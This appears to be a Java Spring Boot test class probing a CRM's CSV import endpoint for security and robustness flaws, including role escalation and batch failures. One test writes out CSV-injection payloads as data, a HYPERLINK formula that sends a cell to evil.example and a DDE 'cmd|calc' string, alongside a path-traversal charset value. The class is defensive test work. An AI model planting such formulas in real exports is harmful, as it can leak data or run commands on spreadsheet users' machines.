package com.dealstage.attack;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.dealstage.testsupport.StageInputs;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Arrays;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;

/** Attacks on POST /api/imports (issue 12) over real HTTP. Each test fails while its finding stands. */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@ActiveProfiles("test")
class ImportAttackTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @Autowired
    private TestRestTemplate rest;

    /** A mapping that maps a header to null is the caller's mistake: 400, not 500 (Set.of(..).contains(null) NPE). */
    @Test
    void aMappingToNullIs400() {
        String csv = "Firma;ИНН\r\nX " + System.nanoTime() + ";" + StageInputs.newTaxNumber() + "\r\n";
        ResponseEntity<String> answer = upload(csv.getBytes(StandardCharsets.UTF_8), "mapping={\"Firma\":null}");
        assertThat(answer.getStatusCode().value()).as(answer.getBody()).isEqualTo(400);
    }

    /** The same for a blacklist file (ListColumns.forBlacklist goes through the same check). */
    @Test
    void aMappingToNullIs400ForABlacklistFileToo() {
        ResponseEntity<String> blacklist = body(("Firma;Причина\r\nX;r\r\n").getBytes(StandardCharsets.UTF_8),
                "text/csv", "mapping={\"Firma\":null}", "/api/imports/blacklist");
        assertThat(blacklist.getStatusCode().value()).as(blacklist.getBody()).isEqualTo(400);
    }

    /** A multipart body cut short (no closing boundary) is the caller's mistake: 400, not 500. */
    @Test
    void aMalformedMultipartUploadIs400() {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.parseMediaType("multipart/form-data; boundary=XYZ"));
        String body = "--XYZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n"
                + "Content-Type: text/csv\r\n\r\nКомпания;ИНН\r\nA;1";
        ResponseEntity<String> answer = as("helen").postForEntity("/api/imports",
                new HttpEntity<>(body.getBytes(StandardCharsets.UTF_8), headers), String.class);
        assertThat(answer.getStatusCode().value()).as(answer.getBody()).isBetween(400, 499);
    }

    /**
     * The per-line report is meant for Excel: a company name such as =HYPERLINK(..) or +cmd|.. from the uploaded list
     * must not come back as a cell Excel evaluates as a formula (CSV injection; ImportRows.report prints it raw).
     */
    @Test
    void theReportNeverHandsExcelAFormula() throws Exception {
        String run = "F" + System.nanoTime();
        String csv = String.join("\r\n", "Компания;E-mail",
                "=HYPERLINK(\"http://evil.example/?\"&A1;\"" + run + "\");bad-mail",
                "+1+cmd|' /C calc'!A0 " + run + ";bad-mail",
                "-2+3 " + run + ";bad-mail",
                "@SUM(1+1) " + run + ";bad-mail") + "\r\n";
        String id = started(upload(csv.getBytes(StandardCharsets.UTF_8), null));
        finished(id);
        String report = new String(as("helen").getForEntity("/api/imports/" + id + "/report", byte[].class)
                .getBody(), StandardCharsets.UTF_8);
        for (String line : report.split("\r\n")) {
            for (String cell : line.split(";")) {
                String plain = cell.startsWith("\"") ? cell.substring(1) : cell;
                assertThat(plain).as("report line: " + line).doesNotStartWith("=").doesNotStartWith("+")
                        .doesNotStartWith("-").doesNotStartWith("@");
            }
        }
    }

    /**
     * A list may name any existing user as the responsible manager (ContactChecks only asks whether he exists):
     * quality control (quinn) thereby becomes the owner of a deal and reads it with its amounts, which the roles
     * table forbids. A list's manager must be a member of the sales team.
     */
    @Test
    void aListCannotMakeSomeoneOutsideSalesTheDealsManager() throws Exception {
        String run = "M" + System.nanoTime();
        String csv = "Компания;ИНН;Менеджер\r\nКонтроль " + run + ";" + StageInputs.newTaxNumber() + ";quinn\r\n";
        String id = started(upload(csv.getBytes(StandardCharsets.UTF_8), null));
        JsonNode done = finished(id);
        String report = new String(as("helen").getForEntity("/api/imports/" + id + "/report", byte[].class)
                .getBody(), StandardCharsets.UTF_8);
        String line = Arrays.stream(report.split("\r\n")).filter(l -> l.startsWith("2;")).findFirst().orElseThrow();
        String[] cells = line.split(";");
        if (line.startsWith("2;STARTED;")) {
            String deal = cells[6];
            ResponseEntity<String> read = as("quinn").getForEntity("/engine-rest/process-instance/" + deal
                    + "/variables", String.class);
            assertThat(read.getStatusCode().value()).as("quinn reads the deal: " + read.getBody()).isNotEqualTo(200);
        }
        assertThat(line).as(done.toString()).startsWith("2;FAILED;;manager;");
    }

    /**
     * One bad line must cost that line, not the import: a row whose company is blacklisted by name and whose INN
     * column holds 2,000 digits is recorded BLACKLISTED with client_key "inn:" + 2,000 digits, over the VARCHAR(1005)
     * column; the insert fails outside the row's savepoint, the whole batch rolls back and the import is
     * INTERRUPTED for good (every resume meets the same line), with the SQL statement in its status message.
     */
    @Test
    void aLongTaxNumberOnABlacklistedCompanyDoesNotKillTheImport() {
        String run = "B" + System.nanoTime();
        String black = "Чёрный " + run;
        assertThat(as("helen").postForEntity("/api/clients/blacklist", Map.of("companyName", black, "reason",
                "не платит"), String.class).getStatusCode().value()).isEqualTo(200);
        String csv = String.join("\r\n", "Компания;ИНН",
                black + ";" + "7".repeat(2000),
                "Белый " + run + ";" + StageInputs.newTaxNumber()) + "\r\n";
        String id = started(upload(csv.getBytes(StandardCharsets.UTF_8), null));
        JsonNode done = finished(id);
        assertThat(done.toString()).doesNotContainIgnoringCase("insert into").doesNotContainIgnoringCase("import_row");
        assertThat(done.get("status").asText()).as(done.toString()).isEqualTo("DONE");
        assertThat(done.get("started").asLong()).isEqualTo(1);
    }

    /** Odd uploads: every one is a 4xx or an accepted import, never a 500. */
    @Test
    void oddUploadsAreNeverA500() {
        byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
        String many = "Компания;" + "x;".repeat(10_000) + "y\r\nA;1\r\n";
        Map<String, ResponseEntity<String>> answers = new java.util.LinkedHashMap<>();
        answers.put("only a BOM", body(bom, "text/csv", null));
        answers.put("empty body", body(new byte[0], "text/csv", null));
        answers.put("header only", body(("Компания;ИНН " + System.nanoTime() + "\r\n").getBytes(StandardCharsets.UTF_8),
                "text/csv", null));
        answers.put("json", body("{}".getBytes(StandardCharsets.UTF_8), "application/json", null));
        answers.put("utf-16 said of utf-8", body(("Компания\r\nA" + System.nanoTime()).getBytes(StandardCharsets.UTF_8),
                "text/csv", "charset=UTF-16"));
        answers.put("unknown charset", body("Компания\r\nA".getBytes(StandardCharsets.UTF_8), "text/csv",
                "charset=../../x"));
        answers.put("10,000 columns", body(many.getBytes(StandardCharsets.UTF_8), "text/csv", null));
        answers.put("blank first line", body(("\r\nКомпания\r\nA" + System.nanoTime()).getBytes(StandardCharsets.UTF_8),
                "text/csv", null));
        answers.put("multipart without file", multipartWithout());
        answers.forEach((what, answer) -> assertThat(answer.getStatusCode().value())
                .as(what + ": " + answer.getBody()).isLessThan(500));
    }

    private ResponseEntity<String> multipartWithout() {
        MultiValueMap<String, Object> form = new LinkedMultiValueMap<>();
        form.add("charset", "UTF-8");
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.MULTIPART_FORM_DATA);
        return as("helen").postForEntity("/api/imports", new HttpEntity<>(form, headers), String.class);
    }

    private ResponseEntity<String> body(byte[] csv, String type, String query) {
        return body(csv, type, query, "/api/imports");
    }

    private ResponseEntity<String> body(byte[] csv, String type, String query, String path) {
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.parseMediaType(type));
        return as("helen").exchange(java.net.URI.create(rest.getRootUri() + path
                        + (query == null ? "" : "?" + java.net.URLEncoder.encode(query.substring(0, query.indexOf('=')),
                        StandardCharsets.UTF_8) + "=" + java.net.URLEncoder.encode(query.substring(query.indexOf('=') + 1),
                        StandardCharsets.UTF_8))), HttpMethod.POST, new HttpEntity<>(csv, headers), String.class);
    }

    private ResponseEntity<String> upload(byte[] file, String fields) {
        MultiValueMap<String, Object> form = new LinkedMultiValueMap<>();
        if (fields != null) {
            form.add(fields.substring(0, fields.indexOf('=')), fields.substring(fields.indexOf('=') + 1));
        }
        form.add("file", new ByteArrayResource(file) {
            @Override
            public String getFilename() {
                return "attack.csv";
            }
        });
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.MULTIPART_FORM_DATA);
        return as("helen").postForEntity("/api/imports", new HttpEntity<>(form, headers), String.class);
    }

    private static String started(ResponseEntity<String> accepted) {
        assertThat(accepted.getStatusCode().value()).as(accepted.getBody()).isEqualTo(202);
        return json(accepted.getBody()).get("id").asText();
    }

    private JsonNode finished(String id) {
        return await().atMost(Duration.ofSeconds(90)).pollInterval(Duration.ofMillis(200))
                .until(() -> json(as("helen").getForEntity("/api/imports/" + id, String.class).getBody()),
                        status -> !"RUNNING".equals(status.get("status").asText()));
    }

    private static JsonNode json(String body) {
        try {
            return JSON.readTree(body);
        } catch (Exception ex) {
            throw new IllegalStateException(body, ex);
        }
    }

    private TestRestTemplate as(String user) {
        return rest.withBasicAuth(user, user.equals("admin") ? "admin-test" : user);
    }
}
